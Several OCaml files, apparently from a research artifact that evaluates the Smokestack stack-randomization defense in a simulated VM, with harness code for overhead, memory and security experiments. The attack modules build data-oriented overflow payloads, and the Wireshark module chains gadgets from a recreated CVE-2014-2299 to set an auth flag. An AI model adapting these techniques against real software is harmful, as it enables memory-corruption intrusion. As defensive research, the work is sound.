        Attacks.Overflow.u64 (rel "g_idx") idx;
        Attacks.Overflow.u64 (rel "g_val") auth_magic;
      ];
  ]

(* Absolute address of a local in serve()'s frame: frame placement is
   deterministic (main has no frame), so the binary yields it — except
   the intra-slab position under Smokestack, which must be guessed. *)
let absolute_local_addr applied ~slots ~var ~seed =
  let prog = (applied : Defenses.Defense.applied).prog in
  let rows = Attacks.Layout.chain prog [ "main"; "serve" ] in
  let direct =
    List.find_map
      (fun (f, v, off) -> if f = "serve" && v = var then Some off else None)
      rows
  in
  match direct with
  | Some off -> Int64.of_int (Machine.Exec.default_stack_top + off)
  | None ->
      (* Smokestack binary: find the opaque slab, guess within it. *)
      let slab =
        List.find_map
          (fun (f, v, off) ->
            if f = "serve" && v = "__ss_total" then Some off else None)
          rows
      in
      (match slab with
      | None -> invalid_arg "no frame information at all"
      | Some off ->
          let in_slab =
            List.assoc var
              (Dopkit.guessed_slab_offsets ~slots ~vars:[ var ] ~fid_slot:true ~seed)
          in
          Int64.of_int (Machine.Exec.default_stack_top + off + in_slab))

let data_indirect_slots =
  [ ("auth", 8, 8); ("rounds", 8, 8); ("n", 8, 8); ("bytes_seen", 8, 8);
    ("errs", 8, 8); ("last", 8, 8); ("reqid", 32, 1) ]

let data_indirect_chunks (applied : Defenses.Defense.applied) ~seed =
  let auth_addr =
    absolute_local_addr applied ~slots:data_indirect_slots ~var:"auth" ~seed
  in
  let gaddrs = Attacks.Layout.global_addrs applied.prog in
  let gbuf = List.assoc "gbuf" gaddrs in
  let rel name = List.assoc name gaddrs - gbuf in
  [
    Attacks.Overflow.craft ~len:1
      [
        Attacks.Overflow.u64 (rel "g_out") auth_addr;
        Attacks.Overflow.u64 (rel "g_stamp") auth_magic;
      ];
  ]

(* Heap adjacency: the VM's bump allocator places the 16-byte control
   block right after the 64-byte buffer (16-byte aligned) — the
   determinism heap sprays rely on. *)
let heap_ctl_rel = 64

let heap_direct_slots =
  [ ("auth", 8, 8); ("slots", 128, 8); ("rounds", 8, 8); ("n", 8, 8);
    ("hbuf", 8, 8); ("ctl", 8, 8) ]

let heap_direct_chunks applied ~seed =
  let idx = stack_write_params applied ~slots:heap_direct_slots ~seed in
  [
    Attacks.Overflow.craft ~len:1
      [
        Attacks.Overflow.u64 heap_ctl_rel idx;
        Attacks.Overflow.u64 (heap_ctl_rel + 8) auth_magic;
      ];
  ]

let heap_indirect_slots =
  [ ("auth", 8, 8); ("rounds", 8, 8); ("n", 8, 8); ("bytes_seen", 8, 8);
    ("errs", 8, 8); ("last", 8, 8); ("reqid", 32, 1); ("hbuf", 8, 8);
    ("ctl", 8, 8) ]

let heap_indirect_chunks applied ~seed =
  let auth_addr =
    absolute_local_addr applied ~slots:heap_indirect_slots ~var:"auth" ~seed
  in
  [
    Attacks.Overflow.craft ~len:1
      [
        Attacks.Overflow.u64 heap_ctl_rel auth_addr;
        Attacks.Overflow.u64 (heap_ctl_rel + 8) auth_magic;
      ];
  ]

(* ------------------------------------------------------------------ *)

let mk vname technique location source craft =
  let attack_session ?backend ?arm applied ~seed =
    attempt_session ?backend ?arm applied ~seed (fun () -> craft applied ~seed)
  in
  let attack applied ~seed =
    let verdict, _, _ = attack_session applied ~seed in
    verdict
  in
  {
    vname;
    technique;
    location;
    source;
    program = lazy (Minic.Driver.compile source);
    attack;
    attack_session;
  }

let variants =
  [
    mk "stack-direct" `Direct `Stack stack_direct_src stack_direct_chunks;
    mk "stack-indirect" `Indirect `Stack stack_indirect_src stack_indirect_chunks;
    mk "data-direct" `Direct `Data data_direct_src data_direct_chunks;
    mk "data-indirect" `Indirect `Data data_indirect_src data_indirect_chunks;
    mk "heap-direct" `Direct `Heap heap_direct_src heap_direct_chunks;
    mk "heap-indirect" `Indirect `Heap heap_indirect_src heap_indirect_chunks;
  ]

(* Findable but not enumerated: the disclosing target's output is
   layout-dependent, so it must stay out of every table that iterates
   [variants].  Its blind hand attack is stack-direct's — the frames
   are identical — which anchors the guided-vs-blind comparison. *)
let hidden =
  [ mk "stack-leaky" `Direct `Stack stack_leaky_src stack_direct_chunks ]

let find name =
  List.find_opt (fun v -> String.equal v.vname name) (variants @ hidden)
