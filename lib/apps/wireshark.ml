let granted = "GRANTED:"

let source =
  {|
long w_auth = 0;
long w_zero_cell = 0;
long w_scratch = 0;

// DOP gadget host (paper: packet_list_change_record holds the gadgets):
// one attacker-steerable add-and-store per invocation.
void packet_list_change_record(long colp, long cinfo, long packet_list) {
  if (colp != 0) {
    if (cinfo != 0) *(long*)colp = *(long*)cinfo + packet_list;
  }
}

// CVE-2014-2299: frame data of attacker-declared length copied into a
// fixed-size buffer.
void packet_list_dissect_and_cache_record(char *data, long len) {
  long col = 0;
  long cinfo = 0;
  long packet_list = 0;
  char pd[256];
  memcpy(pd, data, len);
  packet_list_change_record(col, cinfo, packet_list);
}

// Caller: the cell-list iteration is the gadget dispatcher; its loop
// condition cell_list is among the overflow's victims (paper §V-C).
void gtk_tree_view_column_cell_set_cell_data() {
  char fdata[2048];
  long cell_list = 1;
  long flen = 0;
  while (cell_list > 0) {
    flen = read_input(fdata, 2047);
    if (flen <= 0) break;
    packet_list_dissect_and_cache_record(fdata, flen);
    cell_list -= 1;
  }
  if (w_auth == 4919) { print_str("GRANTED:"); print_int(w_auth); print_newline(); }
  else { print_str("capture done"); print_newline(); }
}

int main() { gtk_tree_view_column_cell_set_cell_data(); return 0; }
|}

let program = lazy (Minic.Driver.compile source)
let benign_chunks = [ "\x01\x02\x03\x04tiny-mpeg-frame" ]
let auth_magic = 4919L

let callee = "packet_list_dissect_and_cache_record"
let caller = "gtk_tree_view_column_cell_set_cell_data"

let callee_slots =
  [ ("data", 8, 8); ("len", 8, 8); ("col", 8, 8); ("cinfo", 8, 8);
    ("packet_list", 8, 8); ("pd", 256, 1) ]

let caller_slots = [ ("fdata", 2048, 1); ("cell_list", 8, 8); ("flen", 8, 8) ]

let attack_session ?backend ?arm (applied : Defenses.Defense.applied) ~seed =
  let chain = [ "main"; caller; callee ] in
  let rows = Attacks.Layout.chain applied.prog chain in
  let rel_of =
    let exact from_v (f, v) =
      Attacks.Layout.distance rows ~from_:(callee, from_v) ~to_:(f, v)
    in
    match exact "pd" (callee, "col") with
    | Some _ ->
        fun (f, v) ->
          (match exact "pd" (f, v) with
          | Some d -> d
          | None -> invalid_arg ("wireshark attack: no offset for " ^ v))
    | None ->
        (* Smokestack binary: guess both frames' intra-slab layouts. *)
        let rng = Sutil.Simrng.create ~seed in
        let callee_guess =
          Dopkit.guessed_slab_offsets ~slots:callee_slots
            ~vars:[ "pd"; "col"; "cinfo"; "packet_list" ] ~fid_slot:true
            ~seed:(Sutil.Simrng.next_u64 rng)
        in
        let caller_guess =
          Dopkit.guessed_slab_offsets ~slots:caller_slots
            ~vars:[ "cell_list"; "fdata"; "flen" ] ~fid_slot:true
            ~seed:(Sutil.Simrng.next_u64 rng)
        in
        let slab f v =
          match
            Attacks.Layout.distance rows ~from_:(callee, "__ss_total")
              ~to_:(f, "__ss_total")
          with
          | Some gap -> gap + v
          | None -> invalid_arg "wireshark attack: no slab information"
        in
        let pd_off = List.assoc "pd" callee_guess in
        fun (f, v) ->
          if String.equal f callee then List.assoc v callee_guess - pd_off
          else slab caller (List.assoc v caller_guess) - pd_off
  in
  match
    let gaddrs = Attacks.Layout.global_addrs applied.prog in
    let addr name = Int64.of_int (List.assoc name gaddrs) in
    (* a two-gadget chain of "[col] <- [cinfo] + packet_list" stores,
       stitched by corrupting the caller's cell_list dispatcher:
       frame 1: w_scratch = [w_zero_cell] + 0x1000, keep looping;
       frame 2: w_auth    = [w_scratch]   + 0x337,  stop. *)
    let frame ~col ~cinfo ~addend ~remaining =
      Attacks.Overflow.craft ~len:256
        [
          Attacks.Overflow.u64 (rel_of (callee, "col")) col;
          Attacks.Overflow.u64 (rel_of (callee, "cinfo")) cinfo;
          Attacks.Overflow.u64 (rel_of (callee, "packet_list")) addend;
          Attacks.Overflow.u64 (rel_of (caller, "cell_list")) remaining;
        ]
    in
    ignore auth_magic;
    [
      frame ~col:(addr "w_scratch") ~cinfo:(addr "w_zero_cell") ~addend:0x1000L
        ~remaining:2L;
      frame ~col:(addr "w_auth") ~cinfo:(addr "w_scratch") ~addend:0x337L
        ~remaining:1L;
    ]
  with
  | chunks ->
      let outcome, stats =
        Runner.run_chunks ?backend ?arm applied ~seed ~chunks
      in
      ( Attacks.Verdict.classify outcome
          ~goal_met:(Dopkit.goal_in_output granted stats),
        Some stats,
        List.length chunks )
  | exception Invalid_argument _ -> (Attacks.Verdict.No_effect, None, 0)

let attack applied ~seed =
  let verdict, _, _ = attack_session applied ~seed in
  verdict
