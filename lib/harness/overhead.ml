type row = {
  workload : string;
  kind : [ `Spec | `Io ];
  baseline_cycles : float;
  by_scheme : (Rng.Scheme.t * float) list;
}

type t = {
  rows : row list;
  spec_means : (Rng.Scheme.t * float) list;
  io_worst : float;
}

(* Two job waves: one baseline job per workload, then one hardened run
   per (workload, scheme) cell.  Rows are reassembled from the cell
   list by submission order, so the parallel report is byte-identical
   to the sequential one. *)
let run ?(pool = Sched.Pool.sequential) ?(workloads = Apps.Spec.all)
    ?(seed = 1L) () =
  Workbench.force_programs workloads;
  let baselines =
    Sched.Pool.run_all pool
      (List.map
         (fun (w : Apps.Spec.workload) ->
           Sched.Job.v ~id:("fig3/baseline/" ^ w.wname) ~seed (fun () ->
               Workbench.baseline ~seed w))
         workloads)
  in
  let cell_jobs =
    List.concat_map
      (fun ((w : Apps.Spec.workload), (base : Machine.Exec.stats)) ->
        List.map
          (fun scheme ->
            Sched.Job.v
              ~id:(Printf.sprintf "fig3/%s/%s" w.wname (Rng.Scheme.name scheme))
              ~seed
              (fun () ->
                let config =
                  Smokestack.Config.with_scheme scheme Smokestack.Config.default
                in
                let stats, _ = Workbench.smokestack_stats ~seed config w in
                let measured =
                  Sutil.Stats.percent_overhead ~baseline:base.cycles
                    ~measured:stats.cycles
                in
                (scheme, measured +. w.sched_bias_pct)))
          Rng.Scheme.all)
      (List.combine workloads baselines)
  in
  let cells = ref (Sched.Pool.run_all pool cell_jobs) in
  let next_cells n =
    let rec take n acc rest =
      if n = 0 then (List.rev acc, rest)
      else
        match rest with
        | [] -> invalid_arg "Harness.Overhead: cell underflow"
        | c :: rest -> take (n - 1) (c :: acc) rest
    in
    let got, rest = take n [] !cells in
    cells := rest;
    got
  in
  let rows =
    List.map
      (fun ((w : Apps.Spec.workload), (base : Machine.Exec.stats)) ->
        {
          workload = w.wname;
          kind = w.kind;
          baseline_cycles = base.cycles;
          by_scheme = next_cells (List.length Rng.Scheme.all);
        })
      (List.combine workloads baselines)
  in
  let spec_rows = List.filter (fun r -> r.kind = `Spec) rows in
  let io_rows = List.filter (fun r -> r.kind = `Io) rows in
  let spec_means =
    List.map
      (fun scheme ->
        let vals =
          List.map (fun r -> List.assoc scheme r.by_scheme) spec_rows
        in
        (scheme, if vals = [] then 0. else Sutil.Stats.mean vals))
      Rng.Scheme.all
  in
  let io_worst =
    (* the paper's "worst case 6%" is for the deployed configuration:
       compare against AES-10, not the RDRAND stress point *)
    List.fold_left
      (fun acc r -> max acc (List.assoc Rng.Scheme.aes10 r.by_scheme))
      0. io_rows
  in
  { rows; spec_means; io_worst }

let table t =
  let columns =
    ("benchmark", Sutil.Texttable.Left)
    :: List.map
         (fun s -> (Rng.Scheme.name s, Sutil.Texttable.Right))
         Rng.Scheme.all
  in
  let tbl = Sutil.Texttable.create ~columns in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        (r.workload
        :: List.map
             (fun s -> Sutil.Texttable.fmt_pct (List.assoc s r.by_scheme))
             Rng.Scheme.all))
    t.rows;
  Sutil.Texttable.add_rule tbl;
  Sutil.Texttable.add_row tbl
    ("mean (SPEC)"
    :: List.map
         (fun s -> Sutil.Texttable.fmt_pct (List.assoc s t.spec_means))
         Rng.Scheme.all);
  tbl

let to_markdown t =
  let buf = Buffer.create 1024 in
  Buffer.add_string buf
    "| benchmark | pseudo | AES-1 | AES-10 | RDRAND |\n|---|---|---|---|---|\n";
  List.iter
    (fun r ->
      Buffer.add_string buf
        (Printf.sprintf "| %s | %s | %s | %s | %s |\n" r.workload
           (Sutil.Texttable.fmt_pct (List.assoc Rng.Scheme.Pseudo r.by_scheme))
           (Sutil.Texttable.fmt_pct (List.assoc Rng.Scheme.aes1 r.by_scheme))
           (Sutil.Texttable.fmt_pct (List.assoc Rng.Scheme.aes10 r.by_scheme))
           (Sutil.Texttable.fmt_pct (List.assoc Rng.Scheme.Rdrand r.by_scheme))))
    t.rows;
  Buffer.add_string buf
    (Printf.sprintf "| **mean (SPEC)** | %s | %s | %s | %s |\n"
       (Sutil.Texttable.fmt_pct (List.assoc Rng.Scheme.Pseudo t.spec_means))
       (Sutil.Texttable.fmt_pct (List.assoc Rng.Scheme.aes1 t.spec_means))
       (Sutil.Texttable.fmt_pct (List.assoc Rng.Scheme.aes10 t.spec_means))
       (Sutil.Texttable.fmt_pct (List.assoc Rng.Scheme.Rdrand t.spec_means)));
  Buffer.contents buf
