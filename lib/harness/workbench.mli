(** Running workloads under defenses, with the input chunking the
    I/O-bound applications expect (one network message per read). *)

val chunk_size : int
(** 48 bytes per [read_input] answer. *)

val chunks_of_input : string -> string list
(** Splits a workload's input string into [chunk_size]-byte messages
    (empty input means no messages). *)

val run :
  ?backend:Machine.Backend.t ->
  ?fuel:int ->
  Defenses.Defense.applied ->
  seed:int64 ->
  Apps.Spec.workload ->
  Machine.Exec.outcome * Machine.Exec.stats
(** One process run of the workload.  Raises [Failure] if the program
    did not exit cleanly — a workload crash means the harness itself is
    broken, and the experiment must not silently absorb that.
    [?backend] selects the execution engine (defaults to
    {!Machine.Backend.default}). *)

val baseline :
  ?backend:Machine.Backend.t ->
  ?seed:int64 ->
  Apps.Spec.workload ->
  Machine.Exec.stats
(** No-defense run (memoized per workload, seed and backend). *)

val smokestack_stats :
  ?backend:Machine.Backend.t ->
  ?seed:int64 ->
  Smokestack.Config.t ->
  Apps.Spec.workload ->
  Machine.Exec.stats * int
(** Hardened run; also returns the P-BOX bytes of the hardened
    binary. *)
