(** Running workloads under defenses, with the input chunking the
    I/O-bound applications expect (one network message per read). *)

val chunk_size : int
(** 48 bytes per [read_input] answer. *)

val chunks_of_input : string -> string list
(** Splits a workload's input string into [chunk_size]-byte messages
    (empty input means no messages). *)

val run :
  ?backend:Machine.Backend.t ->
  ?fuel:int ->
  Defenses.Defense.applied ->
  seed:int64 ->
  Apps.Spec.workload ->
  Machine.Exec.outcome * Machine.Exec.stats
(** One process run of the workload.  Raises [Failure] if the program
    did not exit cleanly — a workload crash means the harness itself is
    broken, and the experiment must not silently absorb that.
    [?backend] selects the execution engine (defaults to
    {!Machine.Backend.default}). *)

val force_programs : Apps.Spec.workload list -> unit
(** Compile every workload's lazy program now, in the calling domain.
    Experiment job builders call this before submitting to a
    {!Sched.Pool}: forcing the same lazy concurrently from two domains
    is undefined in OCaml 5, so the force must happen sequentially. *)

val shared_store : Store.Cache.t
(** The process-wide in-memory store backing {!baseline} and
    {!smokestack_stats} when no [?store] is passed.  Pass a
    {!Store.Cache.open_disk} store instead to persist workload stats
    across processes. *)

val baseline :
  ?backend:Machine.Backend.t ->
  ?store:Store.Cache.t ->
  ?seed:int64 ->
  Apps.Spec.workload ->
  Machine.Exec.stats
(** No-defense run, served from the store keyed on (workload source ×
    no-hardening × engine kind × seed × input digest) — the engine kind
    is part of the key so a reference baseline is never served to a
    bytecode comparison.  Safe to call from parallel jobs; values are
    deterministic per key, so parallel, sequential, cold and warm runs
    observe identical stats. *)

val smokestack_stats :
  ?backend:Machine.Backend.t ->
  ?store:Store.Cache.t ->
  ?seed:int64 ->
  Smokestack.Config.t ->
  Apps.Spec.workload ->
  Machine.Exec.stats * int
(** Hardened run; also returns the P-BOX bytes of the hardened binary.
    Store-served like {!baseline}, with the config's
    [Smokestack.Config.fingerprint] in the key, so any config change
    (including selective hardening) gets its own entry. *)
