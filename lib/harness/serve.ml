type config = {
  traffic : Server.Traffic.config;
  dispatch : Server.Dispatch.config;
  defense : Defenses.Defense.t;
}

let default =
  {
    traffic = Server.Traffic.default;
    dispatch = Server.Dispatch.default;
    defense = Defenses.Defense.Smokestack Smokestack.Config.default;
  }

type t = {
  config : config;
  tenants : Server.Tenant.t list;
  scheduled : int * int * int;  (** (benign, attack, chaos) in the schedule *)
  dispatch : Server.Dispatch.t;
  summary : Server.Metrics.summary;
}

let run ?pool ?backend ?(config = default) () =
  let tenants =
    Server.Tenant.fleet ~defense:config.defense ~root:config.traffic.root ()
  in
  let specs = Server.Traffic.generate config.traffic tenants in
  let dispatch =
    Server.Dispatch.run ?pool ?backend ~config:config.dispatch tenants specs
  in
  {
    config;
    tenants;
    scheduled = Server.Traffic.census specs;
    dispatch;
    summary = Server.Metrics.of_dispatch dispatch;
  }

let summary_table t = Server.Metrics.table t.summary
let tenant_table t = Server.Metrics.tenant_table t.tenants t.dispatch
let class_table t = Server.Metrics.class_table t.dispatch

let to_markdown t =
  let b = Buffer.create 2048 in
  let benign, attack, chaos = t.scheduled in
  Buffer.add_string b
    "E15: server runtime — mixed benign+attack traffic under load\n\n";
  Buffer.add_string b
    (Printf.sprintf
       "%d sessions over %d tenants (defense: %s): %d benign, %d attack, %d \
        chaos; %d virtual handlers, queue capacity %d.\n\n"
       t.summary.Server.Metrics.sessions (List.length t.tenants)
       (Defenses.Defense.name t.config.defense)
       benign attack chaos t.config.dispatch.Server.Dispatch.virtual_workers
       t.config.dispatch.Server.Dispatch.queue_capacity);
  Buffer.add_string b (Sutil.Texttable.render (summary_table t));
  Buffer.add_string b "\nper tenant:\n\n";
  Buffer.add_string b (Sutil.Texttable.render (tenant_table t));
  Buffer.add_string b
    (Printf.sprintf
       "\nserved attack sessions carry the batch harness's verdict: %d/%d \
        checked, %d mismatches.\n"
       t.summary.Server.Metrics.batch_checked
       t.summary.Server.Metrics.batch_checked
       t.summary.Server.Metrics.batch_mismatches);
  Buffer.contents b
