type row = {
  workload : string;
  baseline_rss : int;
  hardened_rss : int;
  pbox_bytes : int;
  overhead_pct : float;
}

type t = { rows : row list; mean_pct : float }

(* A real process's max RSS includes the loader, libc and runtime pages
   (~1-2 MiB floor on the paper's Ubuntu 16.04 testbed); the VM only
   counts pages its programs touch.  Adding the floor to both sides
   keeps the numerator honest (it is exactly the P-BOX pages) while
   putting the percentages on a real process's scale. *)
let process_floor_bytes = 1 lsl 20

let run ?(pool = Sched.Pool.sequential) ?(workloads = Apps.Spec.spec)
    ?(seed = 1L) () =
  Workbench.force_programs workloads;
  let rows =
    Sched.Pool.run_all pool
    @@ List.map
      (fun (w : Apps.Spec.workload) ->
        Sched.Job.v ~id:("fig4/" ^ w.wname) ~seed @@ fun () ->
        let base = Workbench.baseline ~seed w in
        let stats, pbox_bytes =
          Workbench.smokestack_stats ~seed Smokestack.Config.default w
        in
        let baseline_rss = base.rss_bytes + process_floor_bytes in
        let hardened_rss = stats.rss_bytes + process_floor_bytes in
        {
          workload = w.wname;
          baseline_rss;
          hardened_rss;
          pbox_bytes;
          overhead_pct =
            Sutil.Stats.percent_overhead
              ~baseline:(float_of_int baseline_rss)
              ~measured:(float_of_int hardened_rss);
        })
      workloads
  in
  {
    rows;
    mean_pct = Sutil.Stats.mean (List.map (fun r -> r.overhead_pct) rows);
  }

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        [
          ("benchmark", Sutil.Texttable.Left);
          ("base RSS", Sutil.Texttable.Right);
          ("hardened RSS", Sutil.Texttable.Right);
          ("P-BOX", Sutil.Texttable.Right);
          ("overhead", Sutil.Texttable.Right);
        ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.workload;
          Sutil.Texttable.fmt_bytes r.baseline_rss;
          Sutil.Texttable.fmt_bytes r.hardened_rss;
          Sutil.Texttable.fmt_bytes r.pbox_bytes;
          Sutil.Texttable.fmt_pct r.overhead_pct;
        ])
    t.rows;
  Sutil.Texttable.add_rule tbl;
  Sutil.Texttable.add_row tbl
    [ "mean"; ""; ""; ""; Sutil.Texttable.fmt_pct t.mean_pct ];
  tbl

let to_markdown t =
  let buf = Buffer.create 512 in
  Buffer.add_string buf
    "| benchmark | base RSS | hardened RSS | P-BOX bytes | overhead |\n|---|---|---|---|---|\n";
  List.iter
    (fun r ->
      Buffer.add_string buf
        (Printf.sprintf "| %s | %s | %s | %s | %s |\n" r.workload
           (Sutil.Texttable.fmt_bytes r.baseline_rss)
           (Sutil.Texttable.fmt_bytes r.hardened_rss)
           (Sutil.Texttable.fmt_bytes r.pbox_bytes)
           (Sutil.Texttable.fmt_pct r.overhead_pct)))
    t.rows;
  Buffer.add_string buf
    (Printf.sprintf "| **mean** | | | | %s |\n"
       (Sutil.Texttable.fmt_pct t.mean_pct));
  Buffer.contents buf
