(** E18: the resilient control plane experiment — what session
    affinity, circuit breakers, priority classes and graceful
    degradation buy the fleet, measured two ways.

    {b Attacker economics.}  Brute-force verdict sequences for the
    hand-written corpus attacks and the PR 8 synthesized chains (both
    against full Smokestack hardening, both {!Store}-cached so warm
    runs skip execution) are replayed through {!Server.Policy.brute_cost}:
    affinity off, the cost is [attempts * gap]; affinity on, every trip
    inserts exponential virtual-time backoff and persistent failure
    ends in quarantine — the restart-after-crash assumption turned into
    a measurable price, reported next to the [Entropy_an] prediction.

    {b Fleet under a fault storm.}  One storm-overlaid schedule is
    executed {e once}, then admitted twice — FCFS baseline vs the full
    control plane (WFQ classes + breakers + degradation).  The claims
    checked: benign p99 within 10% of the baseline, strictly fewer
    attack sessions admitted, zero batch-verdict mismatches in every
    cell, and byte-identical reports at any pool width on either
    engine. *)

type config = {
  traffic : Server.Traffic.config;  (** storm-overlaid schedule *)
  baseline : Server.Dispatch.config;  (** FCFS, anonymous (affinity off) *)
  resilient : Server.Dispatch.config;
      (** WFQ + breakers + degradation *)
  defense : Defenses.Defense.t;
  budget : int;  (** brute-force verdict budget per attack family *)
  gap : float;  (** attacker craft+restart cost per attempt, cycles *)
}

val default : config

type cost_row = {
  rtarget : string;
  rkind : string;  (** ["hand-written"] or ["synthesized <family> #id"] *)
  predicted : float option;
      (** [Entropy_an] expected brute-force attempts for the attacked
          frame *)
  off : Server.Policy.cost;  (** affinity off: attempts * gap *)
  on_ : Server.Policy.cost;  (** breakers on: backoff + quarantine *)
  higher : bool;
      (** is the affinity-on cost strictly higher?  (quarantine or
          budget exhaustion with a finite off-cost counts; an off-cost
          that itself exhausted the budget cannot be compared and
          counts as [false]) *)
}

type fleet_cell = {
  cname : string;
  dispatch : Server.Dispatch.t;
  summary : Server.Metrics.summary;
  benign_p99 : float;  (** p99 sojourn over served benign sessions *)
}

type t = {
  config : config;
  scheduled : int * int * int;
  storm_sessions : int;
  cost_rows : cost_row list;
  hand_higher : bool;  (** some hand-written family costs strictly more *)
  synth_higher : bool;  (** some synthesized family costs strictly more *)
  cells : fleet_cell list;  (** baseline first, then resilient *)
  benign_p99_ratio : float;  (** resilient benign p99 / baseline's *)
  mismatches : int;  (** batch mismatches summed over cells (must be 0) *)
}

val run :
  ?pool:Sched.Pool.t ->
  ?backend:Machine.Backend.t ->
  ?store:Store.Cache.t ->
  ?config:config ->
  unit ->
  t

val cost_table : t -> Sutil.Texttable.t
val fleet_table : t -> Sutil.Texttable.t

val class_table : t -> Sutil.Texttable.t
(** Per-class breakdown of the resilient cell. *)

val to_markdown : t -> string
