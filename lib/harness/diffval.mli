(** Differential validation of execution engines.

    Runs identical prepared programs under the reference interpreter
    ({!Machine.Exec.run}) and the bytecode engine ({!Engine.Interp.run})
    and checks every observable for bit-identity: outcome, program
    output, and each {!Machine.Exec.stats} field — including the float
    cycle count, whose additions are order-sensitive, so a reassociated
    or dropped charge cannot hide.  [test/test_engine.ml] runs these
    checks as tier-1 tests. *)

type mismatch = {
  case : string;  (** e.g. ["gobmk/smokestack"] or ["progen seed 17"] *)
  field : string;  (** first observable that diverged *)
  expected : string;  (** reference interpreter's value *)
  actual : string;  (** bytecode engine's value *)
}

type report = { cases : int; mismatches : mismatch list }

val ok : report -> bool
val mismatch_to_string : mismatch -> string
val report_to_string : report -> string

val compare_exec :
  case:string -> Store.Entry.exec -> Store.Entry.exec -> mismatch list
(** Field-by-field comparison on the store's exec records — the common
    representation of fresh and cache-served runs, so a cached leg is
    compared by exactly the code path a fresh leg is. *)

val compare_observables :
  case:string ->
  Machine.Exec.outcome * Machine.Exec.stats ->
  Machine.Exec.outcome * Machine.Exec.stats ->
  mismatch list
(** {!compare_exec} on two fresh runs. *)

val check_applied :
  case:string ->
  ?fuel:int ->
  seed:int64 ->
  chunks:string list ->
  Defenses.Defense.applied ->
  mismatch list
(** One defense-applied program, both backends, fresh state each
    (entropy derived from [seed], so both runs see identical draws). *)

val check_apps : ?pool:Sched.Pool.t -> ?fuel:int -> unit -> report
(** Every {!Apps.Spec.all} workload under both [No_defense] and the
    default Smokestack configuration.  One job per (workload, defense)
    pair; mismatches are concatenated in submission order. *)

val check_progen :
  ?pool:Sched.Pool.t ->
  ?store:Store.Cache.t ->
  ?fuel:int ->
  seed:int64 ->
  int ->
  report
(** [check_progen ~seed n] validates [n] Progen-generated programs with
    seeds [seed, seed+1, ...] (deterministic, input-free).  One job per
    seed.  With [?store], each engine's leg is served from (and
    recorded to) the store under its own engine-keyed entry, so warm
    re-validation replays both legs without executing either — the
    report is identical either way. *)
