(** E14: what selective hardening buys.

    For each workload, the validator-certified elisions
    ({!Analysis.Validate.elidable} via [Config.selective]) remove the
    permutation loads and FID check from provably-safe functions while
    keeping the randomness draw (so behaviour stays bit-identical —
    {!Crossval.run_selective} asserts that).  This experiment measures
    the payoff: runtime overhead full vs selective (both against the
    unhardened baseline, scheduling bias included as in E3) and the
    P-BOX bytes the elided rows no longer occupy. *)

type row = {
  workload : string;
  kind : [ `Spec | `Io ];
  n_funcs : int;
  n_elided : int;  (** validator-certified elisions *)
  pbox_full : int;  (** P-BOX bytes, full hardening *)
  pbox_selective : int;
  overhead_full : float;  (** %, vs baseline, bias included *)
  overhead_selective : float;
}

type t = {
  rows : row list;
  mean_delta : float;  (** mean (full - selective) overhead, points *)
  mean_pbox_saving_pct : float;
}

val delta : row -> float
val pbox_saving_pct : row -> float

val run :
  ?pool:Sched.Pool.t ->
  ?store:Store.Cache.t ->
  ?workloads:Apps.Spec.workload list ->
  ?seed:int64 ->
  unit ->
  t
(** Installs the {!Analysis.Validate} elision oracle, then runs each
    workload baseline / full / selective.  Parallel results are
    identical to the sequential default.  [?store] is handed to
    {!Workbench.baseline} and {!Workbench.smokestack_stats}, replacing
    their process-local memo with the given (possibly on-disk)
    store. *)

val table : t -> Sutil.Texttable.t
val to_markdown : t -> string
