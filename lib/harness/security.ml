type cell = {
  attack_name : string;
  defense : Defenses.Defense.t;
  verdicts : Attacks.Verdict.t list;
  success_rate : float;
}

type t = { title : string; cells : cell list }

let trials ?(pool = Sched.Pool.sequential) attack applied ~n ~seed0 =
  Sched.Pool.run_all pool
    (List.init n (fun i ->
         let seed = Int64.of_int (seed0 + (1000 * i)) in
         Sched.Job.v ~id:(Printf.sprintf "trial/%d" i) ~seed (fun () ->
             attack applied ~seed)))

let mk_cell attack_name defense verdicts =
  {
    attack_name;
    defense;
    verdicts;
    success_rate = Attacks.Verdict.success_rate verdicts;
  }

let defenses () = Defenses.Defense.all ()

(* One job per (attack, defense) cell: the job builds its own applied
   program (a fresh Ir.Prog copy) and runs its trials, so nothing is
   shared between jobs but the read-only source program, pre-forced in
   the submitting domain. *)
let pentest ?(pool = Sched.Pool.sequential) ?(trials_per_cell = 12)
    ?(build_seed = 3L) () =
  let cells =
    Sched.Pool.run_all pool
      (List.concat_map
         (fun (v : Apps.Synth.variant) ->
           let prog = Lazy.force v.program in
           List.map
             (fun d ->
               Sched.Job.v
                 ~id:
                   (Printf.sprintf "e5/%s/%s" v.vname (Defenses.Defense.name d))
                 ~seed:build_seed
                 (fun () ->
                   let applied = Defenses.Defense.apply ~seed:build_seed d prog in
                   mk_cell v.vname d
                     (trials v.attack applied ~n:trials_per_cell ~seed0:17)))
             (defenses ()))
         Apps.Synth.variants)
  in
  { title = "E5: synthetic DOP penetration tests (success rate per attempt)"; cells }

let bypass_prior ?(pool = Sched.Pool.sequential) ?(trials_per_cell = 12)
    ?(builds = 12) () =
  let prog = Lazy.force Apps.Librelp.program in
  let strategies =
    [
      ("librelp/static-analysis", Apps.Librelp.attack_static);
      ("librelp/disclosure", Apps.Librelp.attack_disclosure);
    ]
  in
  let cells =
    Sched.Pool.run_all pool
      (List.concat_map
         (fun (name, attack) ->
           List.map
             (fun d ->
               Sched.Job.v
                 ~id:(Printf.sprintf "e4/%s/%s" name (Defenses.Defense.name d))
                 ~seed:3L
                 (fun () ->
                   (* per-build randomization: every trial gets a fresh
                      build, so the rate reads "fraction of builds
                      exploitable" *)
                   let per_build =
                     match d with
                     | Defenses.Defense.Forrest_pad | Defenses.Defense.Static_perm
                       ->
                         true
                     | _ -> false
                   in
                   let verdicts =
                     if per_build then
                       List.init builds (fun b ->
                           let applied =
                             Defenses.Defense.apply
                               ~seed:(Int64.of_int (100 + b))
                               d prog
                           in
                           attack applied ~seed:(Int64.of_int (17 + (1000 * b))))
                     else
                       let applied = Defenses.Defense.apply ~seed:3L d prog in
                       trials attack applied ~n:trials_per_cell ~seed0:17
                   in
                   mk_cell name d verdicts))
             (defenses ()))
         strategies)
  in
  { title = "E4: librelp CVE-2018-1000140 vs prior stack randomizations"; cells }

let realvuln ?(pool = Sched.Pool.sequential) ?(trials_per_cell = 12)
    ?(build_seed = 3L) () =
  (* Programs are forced here, in the submitting domain, so the jobs
     only ever read them. *)
